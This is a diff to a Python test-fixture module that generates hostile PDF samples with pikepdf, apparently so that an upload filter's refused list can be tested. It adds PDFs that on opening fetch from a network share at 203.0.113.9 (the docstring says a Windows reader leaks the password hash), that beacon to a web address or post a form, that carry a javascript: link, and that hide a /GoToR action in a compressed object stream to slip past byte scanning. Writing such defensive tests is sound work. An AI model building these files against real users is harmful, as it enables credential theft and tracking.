@@ -89,6 +89,105 @@ def pdf_with_embedded_file() -> bytes:
     return _pdf_with(build)
 
 
+def _link_with(action, *, compressed: bool = False) -> bytes:
+    """A page whose one link annotation runs ``action`` (a pikepdf.Dictionary) when clicked; ``compressed``: the
+    annotation inside a compressed object stream (none of its words in the file's bytes)."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=action)]))
+    out = io.BytesIO()
+    mode = pikepdf.ObjectStreamMode.generate if compressed else pikepdf.ObjectStreamMode.preserve
+    pdf.save(out, object_stream_mode=mode, compress_streams=True)
+    return out.getvalue()
+
+
+def pdf_opening_a_network_share() -> bytes:
+    """On opening, fetch a file from a network share: a Windows reader sends the account's password hash there."""
+    def build(pdf):
+        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\203.0.113.9\\x\\a.pdf"),
+                                                 D=pikepdf.Array([0, pikepdf.Name.Fit]))
+    return _pdf_with(build)
+
+
+def pdf_opening_a_web_address(beacon: str) -> bytes:
+    def build(pdf):
+        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.URI,
+                                                                   URI=pikepdf.String(f"{beacon}open")))
+    return _pdf_with(build)
+
+
+def pdf_with_javascript_link() -> bytes:
+    """A link whose target is a ``javascript:`` address (not a /URI action: the string itself is caught)."""
+    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.String("javascript:app.alert(1)")),
+                      compressed=True)
+
+
+def pdf_with_web_link(beacon: str) -> bytes:
+    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(f"{beacon}link")))
+
+
+def pdf_with_named_action() -> bytes:
+    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.Print))
+
+
+def pdf_with_hide_action() -> bytes:
+    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.Hide, T=pikepdf.String("field"), H=True))
+
+
+def pdf_with_submit_form(beacon: str) -> bytes:
+    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String(f"{beacon}form")))
+
+
+def pdf_with_goto_embedded() -> bytes:
+    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.GoToE, T=pikepdf.Dictionary(R=pikepdf.Name.C)))
+
+
+def pdf_with_open_action_going_to_a_page() -> bytes:
+    """An /OpenAction that is an action dictionary, even a harmless /GoTo: every automatic action is refused."""
+    def build(pdf):
+        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo,
+                                                 D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]))
+    return _pdf_with(build)
+
+
+def pdf_with_action_in_an_object_stream() -> bytes:
+    """The /GoToR action is an indirect object stored inside a compressed object stream: its name is nowhere in
+    the file's bytes, only in the Flate-compressed stream qpdf decodes."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\203.0.113.9\\x\\b.pdf"),
+                                                  D=pikepdf.Array([0, pikepdf.Name.Fit])))
+    annot = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
+                                                 Rect=[0, 0, 100, 100], A=action))
+    pdf.pages[0].obj.Annots = pikepdf.Array([annot])
+    out = io.BytesIO()
+    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
+    data = out.getvalue()
+    assert b"GoToR" not in data and b"/ObjStm" in data
+    return data
+
+
+def ordinary_pdf_with_internal_links() -> bytes:
+    """What office suites write: open at page one (a destination, not an action), a link to page two by /GoTo, a
+    link by /Dest and a bookmark; nothing leaves the file, nothing runs by itself."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    pdf.add_blank_page()
+    first, second = pdf.pages[0].obj, pdf.pages[1].obj
+    pdf.Root.OpenAction = pikepdf.Array([first, pikepdf.Name.Fit])
+    first.Annots = pdf.make_indirect(pikepdf.Array([
+        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100],
+                           A=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([second, pikepdf.Name.Fit]))),
+        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 100, 100, 200],
+                           Dest=pikepdf.Array([second, pikepdf.Name.XYZ, 0, 0, 0]))]))
+    with pdf.open_outline() as outline:
+        outline.root.append(pikepdf.OutlineItem("Halaman 2", 1))
+    out = io.BytesIO()
+    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    return out.getvalue()
+
+
 def exe() -> bytes:
     return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode."
 
@@ -126,6 +225,16 @@ def refused(beacon: str) -> list[tuple[str, bytes, str]]:
         ("launch.pdf", pdf_with_launch(), "PDF with a launch action"),
         ("halaman.pdf", pdf_with_page_action(beacon), "PDF with a page-open action"),
         ("lampiran.pdf", pdf_with_embedded_file(), "PDF with an embedded file"),
+        ("share.pdf", pdf_opening_a_network_share(), "PDF opening a network share (/GoToR on open)"),
+        ("web.pdf", pdf_opening_a_web_address(beacon), "PDF opening a web address (/URI on open)"),
+        ("jslink.pdf", pdf_with_javascript_link(), "PDF with a javascript: link"),
+        ("weblink.pdf", pdf_with_web_link(beacon), "PDF with a /URI link"),
+        ("named.pdf", pdf_with_named_action(), "PDF with a named action"),
+        ("hide.pdf", pdf_with_hide_action(), "PDF with a hide action"),
+        ("submit.pdf", pdf_with_submit_form(beacon), "PDF with a form that posts"),
+        ("gotoe.pdf", pdf_with_goto_embedded(), "PDF with a /GoToE link"),
+        ("openaction.pdf", pdf_with_open_action_going_to_a_page(), "PDF with an /OpenAction action dictionary"),
+        ("objstm.pdf", pdf_with_action_in_an_object_stream(), "PDF with /GoToR inside a compressed object stream"),
         ("scan.pdf", exe(), "Windows executable named .pdf"),
         ("foto.jpg", elf(), "Linux executable named .jpg"),
         ("pas.jpg", jpeg_header_then_html(beacon), "JPEG header then HTML"),
